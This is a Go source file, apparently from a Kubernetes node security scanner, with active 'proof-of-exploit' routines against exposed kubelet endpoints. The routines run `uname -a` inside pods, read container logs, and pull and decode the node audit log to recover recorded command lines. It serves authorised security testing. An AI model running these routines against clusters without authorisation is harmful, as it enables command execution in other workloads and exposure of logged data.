package hunt

import (
	"context"
	"encoding/hex"
	"log/slog"
	"net/http"
	"net/url"
	"regexp"
	"strings"

	"github.com/nodehound/nodehound/internal/bus"
	"github.com/nodehound/nodehound/internal/config"
	"github.com/nodehound/nodehound/internal/kubelet"
	"github.com/nodehound/nodehound/internal/log"
	"github.com/nodehound/nodehound/internal/model"
)

// nonZeroExitMarker appears in run-handler output when the command failed
// inside the container. Output containing it is not proof.
const nonZeroExitMarker = "exited with"

// auditLogPath is the node audit trail fetched by the system-logs proof.
const auditLogPath = "audit/audit.log"

// proctitleRe matches hex-encoded proctitle fields of Linux audit records.
var proctitleRe = regexp.MustCompile(`proctitle=([0-9A-Fa-f]+)`)

// Proof holds the proof-of-exploit hunters. Each is triggered by exactly one
// finding kind, performs one concrete exploit best-effort and writes the
// evidence back onto the triggering finding. They borrow the session the
// finding carries and never rebuild credentials.
type Proof struct {
	cfg config.Config
}

func NewProof(cfg config.Config) *Proof {
	return &Proof{cfg: cfg}
}

// Register wires the hunters to their finding topics. Called only in active
// mode.
func (p *Proof) Register(b *bus.Bus) {
	bus.Subscribe(b, model.KindExposedRun.Topic(), p.ProveRun)
	bus.Subscribe(b, model.KindExposedContainerLogs.Topic(), p.ProveContainerLogs)
	bus.Subscribe(b, model.KindExposedSystemLogs.Topic(), p.ProveSystemLogs)
}

// ProveRun executes `uname -a` through the run handler, iterating candidate
// pods until one produces output without the non-zero-exit marker.
func (p *Proof) ProveRun(ctx context.Context, f *model.Finding) {
	ctx = log.ContextAttrs(ctx, slog.String("hunter", "prove-run"))
	session := f.Session
	if session == nil {
		slog.DebugContext(ctx, "finding carries no session")
		return
	}

	list, ok := fetchPods(ctx, session)
	if !ok {
		return
	}
	for _, pod := range list.Items {
		if len(pod.Spec.Containers) == 0 {
			continue
		}
		path := kubelet.Run.Resolve(kubelet.Vars{
			Namespace: pod.Metadata.Namespace,
			Pod:       pod.Metadata.Name,
			Container: pod.Spec.Containers[0].Name,
			Command:   url.QueryEscape("uname -a"),
		})
		resp, err := session.Post(ctx, path, nil)
		if err != nil {
			slog.DebugContext(ctx, "run failed, next candidate", "pod", pod.Metadata.Name, "error", err)
			continue
		}
		if resp.Body != "" && !strings.Contains(resp.Body, nonZeroExitMarker) {
			f.Evidence = "uname -a: " + resp.Body
			return
		}
	}
	// all candidates exhausted, the proof stays inconclusive
}

// ProveContainerLogs fetches container logs, candidate by candidate, and
// attaches the first non-empty 200 body.
func (p *Proof) ProveContainerLogs(ctx context.Context, f *model.Finding) {
	ctx = log.ContextAttrs(ctx, slog.String("hunter", "prove-container-logs"))
	session := f.Session
	if session == nil {
		slog.DebugContext(ctx, "finding carries no session")
		return
	}

	list, ok := fetchPods(ctx, session)
	if !ok {
		return
	}
	for _, pod := range list.Items {
		if len(pod.Spec.Containers) == 0 {
			continue
		}
		container := pod.Spec.Containers[0].Name
		path := kubelet.ContainerLogs.Resolve(kubelet.Vars{
			Namespace: pod.Metadata.Namespace,
			Pod:       pod.Metadata.Name,
			Container: container,
		})
		resp, err := session.Get(ctx, path, nil)
		if err != nil {
			slog.DebugContext(ctx, "logs failed, next candidate", "pod", pod.Metadata.Name, "error", err)
			continue
		}
		if resp.StatusCode == http.StatusOK && resp.Body != "" {
			f.Evidence = container + ": " + resp.Body
			return
		}
	}
}

// ProveSystemLogs pulls the audit log through the logs-by-path handler and
// reconstructs the recorded command lines from their hex-encoded proctitle
// fields.
func (p *Proof) ProveSystemLogs(ctx context.Context, f *model.Finding) {
	ctx = log.ContextAttrs(ctx, slog.String("hunter", "prove-system-logs"))
	session := f.Session
	if session == nil {
		slog.DebugContext(ctx, "finding carries no session")
		return
	}

	resp, err := session.Get(ctx, kubelet.Logs.Resolve(kubelet.Vars{Path: auditLogPath}), nil)
	if err != nil {
		slog.DebugContext(ctx, "audit log fetch failed", "error", err)
		return
	}
	if resp.StatusCode != http.StatusOK {
		slog.DebugContext(ctx, "audit log not served", "status", resp.StatusCode)
		return
	}

	proctitles := DecodeProctitles(resp.Body)
	if len(proctitles) == 0 {
		return
	}
	f.Proctitles = proctitles
	f.Evidence = "audit log: " + strings.Join(proctitles, ", ")
}

// DecodeProctitles extracts every hex-encoded proctitle field from an audit
// log and decodes it back to the original argv string. Audit records encode
// argv with null separators, which become spaces again.
func DecodeProctitles(auditLog string) []string {
	var titles []string
	for _, m := range proctitleRe.FindAllStringSubmatch(auditLog, -1) {
		raw, err := hex.DecodeString(m[1])
		if err != nil {
			continue
		}
		titles = append(titles, strings.ReplaceAll(string(raw), "\x00", " "))
	}
	return titles
}

func fetchPods(ctx context.Context, session model.Session) (model.PodList, bool) {
	resp, err := session.Get(ctx, kubelet.Pods.Resolve(kubelet.Vars{}), nil)
	if err != nil {
		slog.DebugContext(ctx, "pods listing failed", "error", err)
		return model.PodList{}, false
	}
	list, err := model.ParsePodList(resp.Body)
	if err != nil {
		slog.DebugContext(ctx, "pods listing unusable", "error", err)
		return model.PodList{}, false
	}
	return list, true
}
